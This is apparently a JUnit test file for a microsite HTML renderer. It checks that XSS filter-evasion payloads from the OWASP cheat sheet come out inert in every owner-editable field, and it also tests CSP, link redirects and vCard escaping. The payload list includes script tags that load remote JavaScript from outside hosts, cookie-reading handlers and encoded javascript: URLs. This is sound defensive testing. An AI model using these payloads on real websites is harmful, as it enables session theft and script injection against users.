package io.qrflow.edge.microsite;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.qrflow.microsite.Block;
import io.qrflow.microsite.Microsite;
import io.qrflow.microsite.Theme;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Rendering of microsite pages. The XSS payloads are entries of the OWASP "XSS Filter Evasion
 * Cheat Sheet" (cheatsheetseries.owasp.org); each is placed wherever owner text can go (markdown,
 * title, tagline, heading, link label, image alt, contact fields) and must come out inert.
 */
class PageRendererTest {

  static final List<String> OWASP_XSS_PAYLOADS = List.of(
      "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
      "<IMG SRC=\"javascript:alert('XSS');\">",
      "<IMG SRC=javascript:alert('XSS')>",
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
      "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
      "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
      "<IMG SRC=# onmouseover=\"alert('xxs')\">",
      "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
      "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
      "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
      "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
      "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
      "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
      "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
      "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
      "<iframe src=http://xss.rocks/scriptlet.html <",
      "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
      "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
      "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
      "<svg/onload=alert('XSS')>",
      "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
      "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
      "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
      "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
      "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
      "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
      "<BASE HREF=\"javascript:alert('XSS');//\">",
      "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
      "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
      "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
      "[click](javascript:alert('XSS'))",
      "[click](JaVaScRiPt:alert(1))",
      "![img](javascript:alert(1))",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "[x](vbscript:msgbox(1))",
      "<form action=\"javascript:alert(1)\"><button>x</button></form>");

  /** Elements a page may contain; anything else (script, iframe, form, svg, ...) is a failure. */
  private static final java.util.Set<String> SAFE_ELEMENTS = java.util.Set.of("main", "header", "h1",
      "h2", "h3", "h4", "h5", "h6", "p", "section", "div", "a", "img", "ul", "ol", "li", "strong",
      "em", "b", "i", "code", "pre", "blockquote", "br", "hr", "figure", "figcaption", "footer",
      "span", "table", "thead", "tbody", "tr", "td", "th", "body", "html");
  private static final Pattern TAG = Pattern.compile("<\\s*/?\\s*([a-zA-Z0-9]+)([^>]*)>");
  private static final Pattern ATTRIBUTE = Pattern.compile("([a-zA-Z-]+)=\"([^\"]*)\"");
  private static final Pattern SAFE_URL =
      Pattern.compile("((https?://|/m/shop/|/q/|tel:|mailto:)[^\\s]*)?"); // empty: a dropped URL

  /** Why a real tag (escaped text has no '<') could be active, or null when it is inert. */
  private static String activePart(String tag) {
    var m = TAG.matcher(tag);
    if (!m.matches()) return "unparsable tag";
    if (!SAFE_ELEMENTS.contains(m.group(1).toLowerCase(Locale.ROOT))) return "element " + m.group(1);
    String attributes = m.group(2);
    var a = ATTRIBUTE.matcher(attributes);
    String rest = a.replaceAll("").replace("/", "").trim();
    if (!rest.isEmpty()) return "unquoted attribute text " + rest;
    a.reset();
    while (a.find()) {
      String name = a.group(1).toLowerCase(Locale.ROOT);
      if (name.startsWith("on") || name.equals("style")) return "attribute " + name;
      if ((name.equals("href") || name.equals("src")) && !SAFE_URL.matcher(a.group(2)).matches()) {
        return "URL " + a.group(2);
      }
    }
    return null;
  }

  @Test
  void everyCheatSheetPayloadIsInertWhereverOwnerTextGoes() {
    assertPayloadsInert(page -> new String(PageRenderer.render(page).html(), StandardCharsets.UTF_8),
        BENIGN_HEAD_TAGS, "rendered");
  }

  @Test
  void everyCheatSheetPayloadIsInertInThePreviewToo() {
    List<String> head = tags(PageRenderer.preview(page("x", "y", List.of()), "/s.css").split("<main>")[0], true);
    assertTrue(head.contains("<meta http-equiv=\"\" content=\"\">"), "the CSP meta element: " + head);
    assertPayloadsInert(page -> PageRenderer.preview(page, "/s.css"), head, "previewed");
  }

  @Test
  void previewLinksGoStraightToTheirTargetsAndCarryThePageCsp() {
    String html = PageRenderer.preview(page("Shop", "", List.of(new Block.Link("Order", "https://shop.example/order"),
        new Block.Contact("Ada", null, null, null, null, null, null))), "/api/v1/microsites/shop/preview/style.css?a=1&b=2");
    assertTrue(html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src &#39;none&#39;;"
        + " style-src &#39;self&#39;; img-src &#39;self&#39; https: http:; base-uri &#39;none&#39;;"
        + " form-action &#39;none&#39;\">"), html);
    assertTrue(html.contains("href=\"https://shop.example/order\"") && !html.contains("/go/"), html);
    assertTrue(html.contains("href=\"/api/v1/microsites/shop/preview/style.css?a=1&amp;b=2\""), html);
    assertFalse(html.contains(".vcf") || html.contains("class=\"tagline\""), "no vCard link, no blank tagline: " + html);
  }

  private static void assertPayloadsInert(java.util.function.Function<Microsite.Page, String> render,
      List<String> benignHead, String how) {
    int checked = 0;
    for (String payload : OWASP_XSS_PAYLOADS) {
      String text = payload.length() > 200 ? payload.substring(0, 200) : payload;
      var page = page(text, text, List.of(
          new Block.Markdown(payload),
          new Block.Markdown("Intro\n\n" + payload + "\n\n**after**"),
          new Block.Heading(text, 2),
          new Block.Link(text, "https://example.com/?q=\"><script>alert(1)</script>"),
          new Block.Image("https://example.com/x.png\"onerror=\"alert(1)", text),
          new Block.Contact(text, text, text, null, null, null, text)));
      String html = render.apply(page);
      String head = html.substring(0, html.indexOf("<main>"));
      assertEquals(benignHead, tags(head, true), "the head keeps its shape with " + payload);
      for (String tag : tags(html.substring(html.indexOf("<main>")), false)) {
        String active = activePart(tag);
        assertEquals(null, active, "payload " + payload + " left tag " + tag);
      }
      checked++;
    }
    System.out.println("PageRendererTest: " + checked + " OWASP cheat-sheet payloads " + how + " inert");
    assertEquals(OWASP_XSS_PAYLOADS.size(), checked);
  }

  private static final List<String> BENIGN_HEAD_TAGS = tags(new String(
      PageRenderer.render(page("x", "y", List.of())).html(), StandardCharsets.UTF_8).split("<main>")[0], true);

  /** The real tags of an HTML text, optionally with attribute values blanked (its structure). */
  private static List<String> tags(String html, boolean blankValues) {
    return Pattern.compile("<[^>]*>").matcher(html).results()
        .map(m -> blankValues ? m.group().replaceAll("\"[^\"]*\"", "\"\"") : m.group()).toList();
  }

  @Test
  void markdownKeepsFormattingLinksAndImagesButNoRawHtml() {
    String html = Markdown.toSafeHtml("# Menu\n\n**Bread** and _cake_, see [prices](https://bakery.example/p)."
        + "\n\n- rye\n- spelt\n\n![loaf](https://bakery.example/loaf.jpg)\n\n<b onclick=x>raw</b>");

    assertTrue(html.contains("<strong>Bread</strong>"), html);
    assertTrue(html.contains("<em>cake</em>"), html);
    assertTrue(html.contains("href=\"https://bakery.example/p\""), html);
    assertTrue(html.contains("<li>rye</li>"), html);
    assertTrue(html.contains("src=\"https://bakery.example/loaf.jpg\""), html);
    assertTrue(html.contains("&lt;b onclick&#61;x&gt;raw") || html.contains("&lt;b onclick=x&gt;raw"), html);
    assertFalse(html.toLowerCase(Locale.ROOT).contains("<b onclick"), html);
  }

  @Test
  void linksGoThroughTheCountingRedirectInPageOrderAndCssCarriesOnlyTheTheme() {
    var rendered = PageRenderer.render(page("Shop", null, List.of(
        new Block.Link("Order", "https://shop.example/order"),
        new Block.Social(List.of(new Block.SocialLink("instagram", "https://instagram.com/shop"))),
        new Block.Contact("Ada", null, null, "+49 30 123", "ada@shop.example", "https://shop.example", null))));
    String html = new String(rendered.html(), StandardCharsets.UTF_8);

    assertEquals(List.of("https://shop.example/order", "https://instagram.com/shop", "https://shop.example"),
        rendered.links());
    assertTrue(html.contains("href=\"/m/shop/go/0\"") && html.contains("href=\"/m/shop/go/2\""), html);
    assertTrue(html.contains("href=\"/m/shop/contact/2.vcf\""), html);
    assertFalse(html.contains("<script"), html);
    assertFalse(html.contains("style="), "no inline style: the CSP allows none");
    String css = new String(rendered.css(), StandardCharsets.UTF_8);
    assertTrue(css.startsWith(":root{--primary:#2457d6;--bg:#ffffff;--text:#1b1f24;"), css);
  }

  @Test
  void vcardEscapesSeparatorsAndUsesCrlf() {
    String card = VCard.of(new Block.Contact("Doe, Jane; PhD", "ACME", null, "+1 (555) 010-9999",
        "jane@acme.example", "https://acme.example", "1 Main St, Springfield"));

    assertTrue(card.startsWith("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Doe\\, Jane\\; PhD\r\n"), card);
    assertTrue(card.contains("TEL;VALUE=uri:tel:+15550109999\r\n"), card);
    assertTrue(card.contains("ADR:;;1 Main St\\, Springfield;;;;\r\n"), card);
    assertTrue(card.endsWith("END:VCARD\r\n"), card);
  }

  private static Microsite.Page page(String title, String tagline, List<Block> blocks) {
    return new Microsite.Page(true, "shop", "owner", title, tagline, Theme.DEFAULT, blocks, 3);
  }
}
